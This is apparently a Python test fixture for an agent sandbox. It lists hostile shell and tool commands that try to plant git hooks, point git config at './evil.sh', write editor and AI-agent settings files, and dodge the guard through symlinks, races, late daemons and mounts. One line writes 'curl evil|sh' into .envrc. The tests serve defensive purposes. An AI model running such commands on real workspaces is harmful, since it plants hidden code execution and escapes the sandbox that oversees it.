"""Attacks on what other programs obey inside the workspace: git's hooks and configuration, editors', agents'."""

from __future__ import annotations

from tests.hostile.case import python, shell, tools

LATE = "a daemon writes after its command has ended: it is put back behind the next command, or at the end"
NEW_MODULE = "a module that is not there yet is like a new repository below the root: `git submodule add` must work"

PROTECTED = [
    shell("hook-new", "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", "1.2 write ws/.git/hooks, 22"),
    shell("hook-append", "echo evil >> .git/hooks/pre-push", "22"),
    shell("hook-mode", "chmod 600 .git/hooks/pre-push", "22"),
    shell("hooks-directory-swap", "mv .git/hooks .git/old; mkdir .git/hooks; echo evil > .git/hooks/pre-commit", "22"),
    shell("hooks-directory-symlink", "rm -rf .git/hooks; mkdir evil; ln -s ../evil .git/hooks; echo evil > evil/pre-commit", "22"),
    shell("config-append", "printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' >> .git/config", "1.2 write ws/.git/config, 22"),
    shell("config-fsmonitor", "git config core.fsmonitor ./evil.sh", "22"),
    shell("config-hooks-path", "git config core.hooksPath ./evil", "22"),
    shell("config-ssh-pager-editor", "git config core.sshCommand evil; git config core.pager evil; git config core.editor evil; git config alias.st '!evil'", "22"),
    shell("config-filter", "git config filter.x.clean ./evil.sh; git config diff.x.textconv ./evil.sh; git config diff.external ./evil.sh", "22"),
    shell("config-rename", "cp .git/config c; echo '[core]' >> c; mv -f c .git/config", "22"),
    shell("config-lock-dance", "cp .git/config .git/config.lock; echo '[x]' >> .git/config.lock; mv .git/config.lock .git/config", "22"),
    shell("config-hard-link", "ln .git/config c && echo '[x]' >> c", "29"),
    shell("config-symlink", "ln -s .git/config c && echo '[x]' >> c; ln -s .git/hooks h; echo evil > h/pre-commit", "29"),
    shell("config-worktree", "echo '[core]' > .git/config.worktree; git config extensions.worktreeConfig true", "22"),
    shell("commondir", "echo ../evil > .git/commondir", "22"),
    shell("git-moved", "mv .git g; cp -a g .git; echo evil > .git/hooks/pre-commit", "22"),
    shell("git-as-file", "mv .git g; echo 'gitdir: g' > .git; echo evil > g/hooks/pre-commit", "22"),
    shell("git-as-symlink", "mv .git g; ln -s g .git; echo evil > g/hooks/pre-commit", "22"),
    shell("git-init-again", "mkdir t; mkdir t/hooks; echo evil > t/hooks/pre-commit; git init -q --template=t .; git init -q --separate-git-dir=g .", "22"),
    shell("git-removed", "rm -rf .git; mkdir .git; git init -q .; echo evil > .git/hooks/pre-commit", "22"),
    shell("nested-repository", "echo evil > vendor/lib/.git/hooks/pre-commit; git -C vendor/lib config core.fsmonitor ./evil", "22"),
    shell("nested-repository-moved", "mv vendor/lib vendor/other; cd vendor/other && git config core.fsmonitor ./evil; cd ..; mv other lib", "22"),
    shell("submodule-hooks", "mkdir -p .git/modules/sub/hooks; echo evil > .git/modules/sub/hooks/post-checkout; echo '[core]' > .git/modules/sub/config", "22", open={"bubblewrap": NEW_MODULE, "landlock": NEW_MODULE}),
    shell("envrc", "echo 'curl evil|sh' > .envrc", "6, 29"),
    shell("vscode", "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo '{}' > .vscode/settings.json", "15"),
    shell("idea-zed-cursor", "mkdir -p .idea .zed .cursor; echo x > .idea/workspace.xml; echo x > .zed/tasks.json; echo x > .cursor/mcp.json", "15, 14"),
    shell("agents", "mkdir -p .claude .codex .gemini; echo x > .claude/settings.json; echo x > .codex/config.toml; echo x > .gemini/settings.json", "6, 13"),
    shell("own-project-files", "mkdir -p .laguna; echo x > .laguna/config.toml; echo '{}' > .mcp.json", "7, 13, 14"),
    shell("devcontainer", "mkdir .devcontainer; echo '{}' > .devcontainer/devcontainer.json", "15"),
    shell("below-a-directory", "mkdir -p sub/.vscode; echo x > sub/.vscode/tasks.json; echo x > sub/.envrc", "15"),
    shell("prepared-and-renamed", "mkdir prep; echo x > prep/tasks.json; mv prep .vscode; echo x > e; mv e .envrc; ln e2 .mcp.json", "6, 29"),
    shell("prepared-symlink", "mkdir prep; echo x > prep/tasks.json; ln -s prep .vscode; echo x > e; ln -s e .envrc; echo y | tee .envrc", "6, 29"),
    shell("git-apply", "printf 'diff --git a/.envrc b/.envrc\\nnew file mode 100644\\n--- /dev/null\\n+++ b/.envrc\\n@@ -0,0 +1 @@\\n+evil\\n' > p; git apply p", "6"),
    shell("tar", "rm -rf /tmp/s; mkdir -p /tmp/s/.vscode; echo x > /tmp/s/.envrc; echo x > /tmp/s/.vscode/t; tar -C /tmp/s -cf t.tar .; tar -xf t.tar", "6"),
    shell("cp-a", "rm -rf /tmp/s; mkdir -p /tmp/s/.vscode; echo x > /tmp/s/.vscode/t; cp -a /tmp/s/. .", "6"),
    shell("checkout", "git hash-object -w --stdin < README > h; git read-tree main; git update-index --add --cacheinfo 100644,$(cat h),.envrc; c=$(git commit-tree $(git write-tree) -m e -p main); git reset -q --hard $c", "6"),
    python("python-io", "import os; os.makedirs('.vscode', exist_ok=True); open('.vscode/tasks.json', 'w').write('x'); open('.git/hooks/post-commit', 'w').write('x')", "6"),
    shell("background-later", "(sleep 0.4; echo x > .envrc; echo x > .git/hooks/pre-commit) > /dev/null 2>&1 &", "6, 29", settle=0.9),
    shell("daemon-later", "setsid -f sh -c 'sleep 0.4; echo x > .envrc; echo x >> .git/config' > /dev/null 2>&1", "6, 29", settle=0.9, open={"landlock": LATE}),
    tools("watcher-follows-a-link", ("shell", {"command": "mv vendor v; ln -s @OUT/other vendor"}), ("shell", {"command": "rm vendor; mv v vendor"}), of="29", proof="only who puts back what is protected can be led astray"),
    tools("watcher-follows-a-new-link", ("shell", {"command": "mv vendor v; ln -s @OUT/dir vendor"}), ("shell", {"command": "rm vendor; mv v vendor"}), of="29", proof="only who puts back what is protected can be led astray"),
    tools("watcher-and-a-race", ("shell", {"command": "(for i in $(seq 300); do mv -T vendor v; ln -s @OUT/other vendor; rm vendor; mv -T v vendor; done) > /dev/null 2>&1 & sleep 0.2"}), ("shell", {"command": "test -L vendor && rm vendor; test -d v && mv -T v vendor; true"}), of="29", settle=1.0, proof="only who puts back what is protected can be led astray"),
    tools("watcher-and-a-daemon", ("shell", {"command": "setsid -f sh -c 'for i in $(seq 60); do mv -T vendor v; ln -s @OUT/other vendor; rm vendor; mv -T v vendor; done' > /dev/null 2>&1; sleep 2"}), ("shell", {"command": "test -L vendor && rm vendor; test -d v && mv -T v vendor; true"}), of="29", settle=0.5, proof="only who puts back what is protected can be led astray"),
    shell("mount-over", "mkdir m; echo evil > m/pre-commit; mount --bind m .git/hooks", "1.2 mount", proof="a mount is seen by the one who looks only in the same namespace"),
]  # fmt: skip
